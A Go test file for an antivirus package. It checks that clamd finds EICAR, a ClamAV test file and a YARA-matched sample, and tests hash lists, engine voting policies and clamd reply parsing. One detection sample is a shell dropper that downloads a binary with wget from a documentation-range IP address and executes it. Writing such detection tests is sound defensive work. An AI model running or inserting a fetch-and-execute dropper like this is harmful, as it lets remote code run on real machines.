package av

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"secaas/internal/lab/labtest"
)

// eicar is assembled at run time so that no file of this repository
// trips a scanner.
func eicar() []byte {
	return []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + `$H+H*`)
}

func startClamd(t *testing.T) *Clamd {
	t.Helper()
	if _, err := exec.LookPath("clamd"); err != nil {
		labtest.Missing(t, "clamd not installed")
	}
	dir := t.TempDir()
	if _, err := WriteDatabase(filepath.Join(dir, "db"), ""); err != nil {
		t.Fatal(err)
	}
	c, err := StartClamd(context.Background(), ClamdConfig{Dir: dir, DatabaseDir: filepath.Join(dir, "db"), MaxFileMiB: 256})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Stop)
	return c
}

// TestClamdOfflineDatabase: a real clamd with only secaas's offline
// database finds EICAR inside a larger file, a file of Debian's
// clamav-testfiles, and a YARA rule's match; clean data is clean; a file
// larger than clamd's default stream limit is scanned, not refused.
func TestClamdOfflineDatabase(t *testing.T) {
	c := startClamd(t)
	e := c.Engine()
	ctx := context.Background()
	embedded := append(append(bytes.Repeat([]byte("A"), 5000), eicar()...), bytes.Repeat([]byte("B"), 5000)...)
	testfile, err := os.ReadFile(filepath.Join(TestFilesDir, "clam.exe"))
	if err != nil {
		labtest.Missing(t, "clamav-testfiles not installed")
	}
	dropper := []byte("#!/bin/sh\nwget -q -O /tmp/.x http://203.0.113.9/p\nchmod +x /tmp/.x && /tmp/.x\n")
	for name, tc := range map[string]struct {
		data []byte
		sig  string
	}{
		"eicar":          {eicar(), "Secaas.Test.EICAR"},
		"eicar embedded": {embedded, "Secaas.Test.EICAR"},
		"clam.exe":       {testfile, "Secaas.TestFile.clam_exe"},
		"yara":           {dropper, "Secaas_Test_Dropper"},
		"clean":          {[]byte("#!/bin/sh\necho hello\n"), ""},
		"empty":          {nil, ""},
	} {
		sig, bad, err := e.Scan(ctx, tc.data)
		if err != nil || bad != (tc.sig != "") || !strings.Contains(sig, tc.sig) {
			t.Errorf("%s: %q %v %v, want %q", name, sig, bad, err, tc.sig)
		}
	}
	big := make([]byte, 130<<20) // above clamd's default StreamMaxLength (100M)
	copy(big[100<<20:], eicar())
	if sig, bad, err := e.Scan(ctx, big); err != nil || !bad {
		t.Errorf("130 MiB file: %q %v %v", sig, bad, err)
	}
}

// TestScannerPolicies: engines run in parallel; any-positive and majority
// combine them; a failing engine never makes a file clean.
func TestScannerPolicies(t *testing.T) {
	c := startClamd(t)
	sum := sha256.Sum256([]byte("known bad"))
	hl, err := ParseHashList(strings.NewReader("# list\n" + hex.EncodeToString(sum[:]) + " *Bad.Known\n"))
	if err != nil || hl.Len() != 1 {
		t.Fatal(err)
	}
	s := &Scanner{Engines: []Engine{c.Engine(), hl}}
	ctx := context.Background()
	if r := s.Scan(ctx, []byte("known bad")); r.Verdict != Infected || r.Signatures() != "hashlist:Bad.Known" {
		t.Errorf("hash hit: %+v", r)
	}
	if r := s.Scan(ctx, eicar()); r.Verdict != Infected || len(r.Results) != 2 {
		t.Errorf("eicar: %+v", r)
	}
	s.Policy = Majority
	if r := s.Scan(ctx, eicar()); r.Verdict != Clean {
		t.Errorf("majority of 2 with one positive: %+v", r)
	}
	s.Policy = AnyPositive
	if r := s.Scan(ctx, []byte("fine")); r.Verdict != Clean {
		t.Errorf("clean: %+v", r)
	}
	c.Stop() // a dead engine: ERROR, not CLEAN
	if r := s.Scan(ctx, []byte("fine")); r.Verdict != Error || r.Results[0].Err == "" {
		t.Errorf("dead clamd: %+v", r)
	}
	if _, err := ParseHashList(strings.NewReader("abcd x\n")); err == nil {
		t.Error("a short hash was accepted")
	}
	if _, err := ParsePolicy("vote"); err == nil {
		t.Error("unknown policy accepted")
	}
}

func TestParseClamdReply(t *testing.T) {
	for in, want := range map[string]string{
		"stream: OK\x00":                                     "clean",
		"stream: Secaas.Test.EICAR FOUND\x00":                "Secaas.Test.EICAR",
		"INSTREAM size limit exceeded. ERROR\x00":            "error",
		"stream: Can't allocate memory ERROR\n":              "error",
		"garbage":                                            "error",
		"stream: OK\x00stream: Other FOUND\x00":              "error",
		"stream:  FOUND\x00":                                 "error",
		"stream: " + strings.Repeat("x", 300) + " FOUND\x00": "error",
	} {
		sig, bad, err := ParseClamdReply([]byte(in))
		got := "clean"
		switch {
		case err != nil:
			got = "error"
		case bad:
			got = sig
		}
		if got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
}

func FuzzParseClamdReply(f *testing.F) {
	f.Add([]byte("stream: OK\x00"))
	f.Add([]byte("stream: X FOUND\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		sig, bad, err := ParseClamdReply(b)
		if err == nil && bad && sig == "" {
			t.Fatal("infected without a signature")
		}
	})
}
